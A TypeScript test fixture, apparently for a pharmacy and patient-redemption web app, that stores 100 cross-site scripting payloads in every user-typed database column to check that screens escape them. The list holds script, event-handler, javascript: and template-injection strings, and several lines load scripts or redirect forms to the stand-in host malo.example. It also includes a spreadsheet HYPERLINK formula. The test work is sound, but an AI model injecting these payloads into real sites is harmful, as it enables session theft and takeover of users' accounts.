import pg from 'pg';
import { loadDemo } from '../../netlify/database/demo.ts';
import { ownerUrl } from '../support/browser.ts';

const RUN = 'window.ejecutado=1';
const bases = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src=//malo.example/x.js></script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>parent.ejecutado=1</script>"></iframe>`,
  `<iframe src=javascript:parent.ejecutado=1></iframe>`,
  `<a href="javascript:${RUN}">aquí</a>`,
  `<body onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<math><mtext><style><img src=x onerror=${RUN}></style></mtext></math>`,
  `<template><script>${RUN}</script></template>`,
  `<style>*{background:url(//malo.example/x)}</style>`,
  `<link rel=stylesheet href=//malo.example/x.css>`,
  `<base href=//malo.example/>`,
  `<meta http-equiv=refresh content="0;url=//malo.example/">`,
  `<form action=//malo.example/><button>Enviar</button></form>`,
  `<object data=javascript:${RUN}></object>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `javascript:${RUN}`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `=HYPERLINK("http://malo.example","x")`,
  `\u202e<img src=x onerror=${RUN}>`,
  `<astro-island uid=x component-url=//malo.example/x.js client=load></astro-island>`,
];
const wraps = [
  (one: string) => one,
  (one: string) => `"'>${one}`,
  (one: string) => `</td></script>${one}`,
];
const HOSTILES = wraps.flatMap((wrap) => bases.map(wrap)).slice(0, 100);

/** One text that holds all 100, each after a mark that says which it is and where it was stored. */
export const todosDe = (campo: string): string =>
  HOSTILES.map((one, i) => `«${campo}:${i}»${one}`).join(' ');

/** A user name that is hostile and short enough to sign in with. */
export const USUARIO_HOSTIL = `"'><img src=x onerror=${RUN}>`;

/** Every column that holds what somebody once typed, with the name of its mark. */
const CAMPOS = {
  cadenas: ['nombre'],
  farmacias: ['nombre', 'telefono', 'direccion'],
  medicos: ['nombre', 'especialidad'],
  productos: ['marca', 'presentacion'],
  distribuidores: ['nombre'],
  pacientes: [
    ...['nombre', 'primer_apellido', 'segundo_apellido', 'correo', 'telefono', 'nacionalidad'],
  ],
  motivos_rechazo: ['texto'],
  canjes: ['observaciones'],
  canje_facturas: ['numero'],
  canje_historial: ['observaciones'],
  preregistros: ['numero'],
} as const satisfies Readonly<Record<string, readonly string[]>>;

/** The marks' names: table and column. */
export const GUARDADOS: readonly string[] = Object.entries(CAMPOS).flatMap(([tabla, columnas]) =>
  columnas.map((columna) => `${tabla}.${columna}`),
);

/** What the database holds about those columns, lengths above all, as it can be dropped and made again. */
const REGLAS = `
  with campo as (
    select attrelid, attnum from pg_attribute
    where attrelid::regclass || '.' || attname = any($1))
  select format('alter table %s drop constraint %I', conrelid::regclass, conname) as quitar,
         format('alter table %s add constraint %I %s', conrelid::regclass, conname,
                pg_get_constraintdef(oid)) as poner
  from pg_constraint
  where contype in ('c', 'u', 'x')
    and exists (select from campo where attrelid = conrelid and attnum = any(conkey))
  union all
  select format('drop index %s', indexrelid::regclass), pg_get_indexdef(indexrelid)
  from pg_index
  where exists (select from campo where attrelid = indrelid and attnum = any(indkey))
    and not exists (select from pg_constraint where conindid = indexrelid)`;

/**
 * Stores all 100 texts in every one of `CAMPOS`, in every row, and answers what brings the demo data back.
 * Meanwhile the database's own lengths for these columns do not hold: no screen may count on them.
 */
export async function guardarHostiles(): Promise<() => Promise<void>> {
  const client = new pg.Client({ connectionString: ownerUrl() });
  await client.connect();
  const { rows: reglas } = await client.query<{ quitar: string; poner: string }>(REGLAS, [
    GUARDADOS,
  ]);
  const { rows: motivos } = await client.query<{ codigo: string; texto: string }>(
    'select codigo, texto from motivos_rechazo',
  );
  for (const { quitar } of reglas) await client.query(quitar);
  await client.query('alter table canje_historial disable trigger canje_historial_solo_crece');
  for (const [tabla, columnas] of Object.entries(CAMPOS)) {
    await client.query(
      `update ${tabla} set ${columnas.map((columna, i) => `${columna} = $${i + 1}`).join(', ')}`,
      columnas.map((columna) => todosDe(`${tabla}.${columna}`)),
    );
  }
  await client.query(
    `update usuarios set nombre_usuario = $1 where nombre_usuario = 'operador.cr'`,
    [USUARIO_HOSTIL],
  );
  await client.query(
    `update canjes c set usuario_id = u.id from usuarios u
     where u.nombre_usuario = $1 and u.pais_codigo = c.pais_codigo`,
    [USUARIO_HOSTIL],
  );
  return async () => {
    for (const { codigo, texto } of motivos) {
      await client.query('update motivos_rechazo set texto = $2 where codigo = $1', [
        codigo,
        texto,
      ]);
    }
    await client.query('alter table canje_historial enable trigger canje_historial_solo_crece');
    await loadDemo(ownerUrl(), new Date());
    for (const { poner } of reglas) await client.query(poner);
    await client.end();
  };
}
